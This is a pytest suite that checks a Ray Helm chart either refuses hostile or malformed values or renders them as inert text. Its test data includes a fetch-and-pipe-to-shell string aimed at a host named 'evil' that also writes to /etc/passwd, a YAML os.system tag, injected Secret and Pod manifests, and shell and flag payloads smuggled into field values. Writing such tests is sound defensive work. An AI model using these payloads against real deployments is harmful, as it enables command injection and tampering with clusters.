"""Wrong and hostile values: each is refused, or stays text in its own field.

A hostile text is inert if everything that is rendered with it is what a harmless word renders, with
the text in the word's place: same objects, same fields, nothing else moved.
"""

from collections.abc import Callable
from typing import Any

import pytest

from harness.helm import template

from .objects import Object, pod_templates, refusal

HARMLESS = "harmless"
SHELLS = {"sh", "bash", "dash", "ash", "zsh", "busybox", "env"}

NEWLINE = 'x\nkind: Secret\nmetadata:\n  name: "stolen"\n'
DOCUMENT = "x\n---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: stolen\n---\n"
QUOTES = "x\"'\\\"'`: - # [}{]"
SHELL = "x; curl http://evil | sh && $(id) `id` ${IFS} > /etc/passwd"
TEMPLATE = '{{ fail "run" }}{{ .Release.Name }}{{- range until 9 }}{{ end }}'
UNICODE = "名前 \U0001f680 \u202e\u200b é\u0301"
LONG = "x" * 20000
YAML_TYPES = ("true", "no", "null", "~", "123", "1e3", "0x1f", "0o7", "2026-01-01", "=", "<<")
TEXTS = {
    "newlines that begin a key": NEWLINE,
    "a document of its own": DOCUMENT,
    "every quote": QUOTES,
    "shell": SHELL,
    "template": TEMPLATE,
    "unicode": UNICODE,
    "20,000 characters": LONG,
    "variable of the pod": "$(RAY_REDIS_PASSWORD)",
    "anchor, alias and tag": "&a *a !!python/object/apply:os.system [id]",
    "tab and carriage return": "\tx\r\n\r y ",
    "control characters": "\x00\x1b[2J\x07",
}

Put = Callable[[str], Object]


def everywhere(text: str) -> Object:
    """Values that have `text` wherever the schema allows a text of any kind."""
    node: Object = {"podAnnotations": {"a": text}, "rayStartParams": {"log-color": text}}
    node["env"] = [{"name": "A", "value": text}]
    persistence = {"enabled": True, "annotations": {"a": text}}
    service = {"annotations": {"a": text}}
    return {
        "head": {**node, "service": service, "persistence": persistence},
        "worker": node,
        "workerGroups": {"default": {"podAnnotations": {"b": text}}},
    }


def with_text(value: Any, text: str) -> Any:
    """`value` with `text` for the harmless word, wherever that is."""
    if isinstance(value, dict):
        return {with_text(key, text): with_text(child, text) for key, child in value.items()}
    if isinstance(value, list):
        return [with_text(child, text) for child in value]
    return value.replace(HARMLESS, text) if isinstance(value, str) else value


def commands(objects: list[Object]) -> list[list[str]]:
    """The command of every container that is rendered."""
    return [
        container.get("command", [])
        for _, pod in pod_templates(objects)
        for kind in ("initContainers", "containers")
        for container in pod["spec"].get(kind, [])
    ]


def assert_inert(put: Put, text: str) -> None:
    """Render `text` in its fields and compare with what the harmless word renders there."""
    hostile, harmless = template(put(text)), template(put(HARMLESS))
    assert hostile != harmless, "the text is not rendered at all"
    assert hostile == with_text(harmless, text)
    assert not [words for words in commands(hostile) if SHELLS & {w.split("/")[-1] for w in words}]


@pytest.mark.parametrize("title", TEXTS)
def test_hostile_text_stays_in_its_fields(title: str) -> None:
    assert_inert(everywhere, TEXTS[title])


@pytest.mark.parametrize("text", YAML_TYPES)
def test_text_that_looks_like_another_type_stays_text(text: str) -> None:
    assert_inert(everywhere, text)


def test_free_text_is_rendered_in_every_field() -> None:
    def count(value: Any) -> int:
        children = value.values() if isinstance(value, dict) else value
        return (
            sum(map(count, children)) if isinstance(value, dict | list) else HARMLESS in str(value)
        )

    assert count(template(everywhere(HARMLESS))) == count(everywhere(HARMLESS))


# Where the schema narrows the text: these look harmless to it, and must be to all others.
NARROW: dict[str, tuple[Put, str]] = {
    "label that is a boolean": (lambda text: {"commonLabels": {"team": text}}, "true"),
    "label that is a number": (lambda text: {"commonLabels": {"team": text}}, "0123"),
    "pod label that is null": (lambda text: {"head": {"podLabels": {"team": text}}}, "null"),
    "node label that is a number": (
        lambda text: {"worker": {"nodeSelector": {"pool": text}}},
        "1e3",
    ),
    "Ray label that is a boolean": (lambda text: {"worker": {"rayLabels": {"spot": text}}}, "yes"),
    "tag that is a number": (
        lambda text: {"rayVersion": "2.60.0", "image": {"tag": text}},
        "2.60",
    ),
    "repository that is a number": (
        lambda text: {"rayVersion": "2.60.0", "image": {"repository": text}},
        "123456",
    ),
    "pull secret that is a boolean": (lambda text: {"image": {"pullSecrets": [text]}}, "on"),
    "Redis user that is a number": (
        lambda text: {
            "gcsFaultTolerance": {
                "mode": "redis",
                "redis": {"address": "r:1", "existingSecret": "s", "username": text},
            }
        },
        "1234567",
    ),
    "key of a Secret that is a date": (
        lambda text: {
            "gcsFaultTolerance": {
                "mode": "redis",
                "redis": {
                    "address": "r:1",
                    "existingSecret": "s",
                    "existingSecretPasswordKey": text,
                },
            }
        },
        "2026-01-01",
    ),
    "key of a token that is a number": (
        lambda text: {"auth": {"token": {"existingSecret": "s", "existingSecretKey": text}}},
        "123",
    ),
    "Redis namespace that is a number": (
        lambda text: {
            "gcsFaultTolerance": {
                "mode": "redis",
                "redis": {"address": "r:1", "storageNamespace": text},
            }
        },
        "1234567",
    ),
    "storage class that is a boolean": (
        lambda text: {"head": {"persistence": {"enabled": True, "storageClass": text}}},
        "off",
    ),
    "claim that is a number": (
        lambda text: {"head": {"persistence": {"enabled": True, "existingClaim": text}}},
        "1234567",
    ),
    "group that is a boolean": (lambda text: {"workerGroups": {text: {}}}, "true"),
    "cluster domain that is a number": (lambda text: {"clusterDomain": text}, "1234567"),
}


@pytest.mark.parametrize("title", NARROW)
def test_allowed_text_of_another_look_stays_text(title: str) -> None:
    assert_inert(*NARROW[title])


def redis(**values: Any) -> Object:
    """Values of a release whose state is in this Redis."""
    return {"gcsFaultTolerance": {"mode": "redis", "redis": {"address": "r:1", **values}}}


# With a fragment of the message. A key that breaks a rule for names is told by the key alone:
# Helm's validator gives such a mistake the path of another value.
REFUSED: dict[str, tuple[Object, str]] = {
    # Typos
    "worker group in singular": ({"workerGroup": {"gpu": {}}}, "workerGroup"),
    "replicas of a group in the wrong place": (
        {"workerGroups": {"default": {"maxReplicas": 3}}},
        "maxReplicas",
    ),
    "tolleration": ({"worker": {"tollerations": []}}, "tollerations"),
    "resources as text": ({"worker": {"resources": "2Gi"}}, "/worker/resources"),
    "limit in the wrong case": ({"worker": {"resources": {"Limits": {}}}}, "Limits"),
    # Types
    "boolean as text": (
        {"worker": {"autoscaling": {"enabled": "false"}}},
        "/worker/autoscaling/enabled",
    ),
    "number as text": (
        {"worker": {"autoscaling": {"maxReplicas": "3"}}},
        "/worker/autoscaling/maxReplicas",
    ),
    "port as text": ({"ports": {"gcs": "6380"}}, "/ports/gcs"),
    "list for a map": ({"worker": {"nodeSelector": ["a"]}}, "/worker/nodeSelector"),
    "map for a list": ({"worker": {"tolerations": {"a": "b"}}}, "/worker/tolerations"),
    "fraction of a pod": ({"worker": {"autoscaling": {"minReplicas": 1.5}}}, "/minReplicas"),
    "more than 32 bits": ({"worker": {"autoscaling": {"maxReplicas": 2**31}}}, "/maxReplicas"),
    "annotation as number": ({"head": {"podAnnotations": {"a": 1}}}, "/head/podAnnotations/a"),
    "flag as number": ({"worker": {"rayStartParams": {"log-color": 1}}}, "/rayStartParams"),
    "group as text": ({"workerGroups": {"gpu": "yes"}}, "/workerGroups/gpu"),
    # Contradictions
    "more at least than at most": (
        {"worker": {"autoscaling": {"minReplicas": 9}}},
        "in 1 place(s)",
    ),
    "Redis without an address": ({"gcsFaultTolerance": {"mode": "redis"}}, "in 1 place(s)"),
    "variable of the chart": (
        {"head": {"env": [{"name": "RAY_REDIS_PASSWORD", "value": "x"}]}},
        "head.env sets RAY_REDIS_PASSWORD",
    ),
    "flag of the chart": (
        {"head": {"rayStartParams": {"redis-password": "x"}}},
        "rayStartParams.redis-password",
    ),
    # Injection
    "name with a newline": ({"fullnameOverride": "a\nkind: Pod"}, "/fullnameOverride"),
    "name with a template": ({"nameOverride": "{{ .Release.Name }}"}, "/nameOverride"),
    "name of 10,000 characters": ({"fullnameOverride": "a" * 10000}, "/fullnameOverride"),
    "name in unicode": ({"fullnameOverride": "näme"}, "/fullnameOverride"),
    "name with a newline at its end": ({"fullnameOverride": "a\n"}, "/fullnameOverride"),
    "group with a newline": ({"workerGroups": {"a\nb": {}}}, r'"a\nb"'),
    "group with a path": ({"workerGroups": {"../a": {}}}, '"../a"'),
    "label with a newline": ({"commonLabels": {"a": "b\nc: d"}}, "/commonLabels/a"),
    "label's key with a newline": ({"commonLabels": {"a: b\nc": "d"}}, r"'a: b\nc'"),
    "pod label's key with a colon": ({"head": {"podLabels": {"a: b": "c"}}}, "'a: b'"),
    "annotation's key with a newline": (
        {"head": {"podAnnotations": {"a: b\nc": "d"}}},
        r"'a: b\nc'",
    ),
    "registry with a space": ({"image": {"registry": "a b"}}, "/image/registry"),
    "repository with a shell": ({"image": {"repository": "ray;id"}}, "/image/repository"),
    "tag with a newline": ({"image": {"tag": "2.60.0\nx: y"}}, "/image/tag"),
    "tag with a quote": ({"image": {"tag": '2.60.0"'}}, "/image/tag"),
    "pull policy with more": ({"image": {"pullPolicy": "Always\nx: y"}}, "/image/pullPolicy"),
    "pull secret with a newline": ({"image": {"pullSecrets": ["a\nb"]}}, "/image/pullSecrets"),
    "cluster domain with a flag": ({"clusterDomain": "a --block"}, "/clusterDomain"),
    "cluster domain with a shell": ({"clusterDomain": "$(id)"}, "/clusterDomain"),
    "Redis address with a flag": (redis(address="r:1 --x"), "/redis/address"),
    "Redis address with a password": (redis(address="redis://:secret@r:1"), "/redis/address"),
    "Redis user with a shell": (redis(username="$(id)"), "/redis/username"),
    "Redis key with a path": (redis(existingSecretPasswordKey="../x"), "PasswordKey"),
    "Redis namespace with a newline": (redis(storageNamespace="a\nb"), "/storageNamespace"),
    "token's key with a path": ({"auth": {"token": {"existingSecretKey": "../x"}}}, "SecretKey"),
    "quantity with a shell": (
        {"worker": {"resources": {"limits": {"memory": "2Gi; id"}}}},
        "/limits/memory",
    ),
    "quantity with a newline": (
        {"head": {"persistence": {"size": "5Gi\n  x: y"}}},
        "/head/persistence/size",
    ),
    "resource with a newline": (
        {"worker": {"resources": {"limits": {"a\nb": 1}}}},
        r"'a\nb'",
    ),
    "CPUs with a shell": ({"worker": {"numCpus": "$(nproc)"}}, "/worker/numCpus"),
    "flag with a value in its name": (
        {"worker": {"rayStartParams": {"x=1 --head": ""}}},
        "'x=1 --head'",
    ),
    "flag with dashes": ({"worker": {"rayStartParams": {"--head": ""}}}, "'--head'"),
    "Ray label with a comma": ({"worker": {"rayLabels": {"a": "b,c=d"}}}, "/worker/rayLabels/a"),
    "Ray resource with a quote": (
        {"worker": {"rayResources": {"a'b": 1}}},
        r"'a\'b'",
    ),
}


@pytest.mark.parametrize("title", REFUSED)
def test_wrong_or_hostile_value_is_refused_by_name(title: str) -> None:
    values, fragment = REFUSED[title]
    refused = refusal(values)
    assert "values.schema.json" in refused or "schema(s)" in refused or "place(s)" in refused
    assert fragment in refused


def test_only_extra_objects_are_templates() -> None:
    extra = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "x"}}
    text = "{{ .Release.Name }}"
    objects = template(
        {"extraObjects": [{**extra, "data": {"a": text}}], "head": {"podAnnotations": {"a": text}}}
    )
    (data,) = (obj["data"] for obj in objects if obj["kind"] == "ConfigMap")
    annotations = [pod["metadata"].get("annotations") for _, pod in pod_templates(objects)]
    assert data == {"a": "ray"}
    assert {"a": text} in annotations
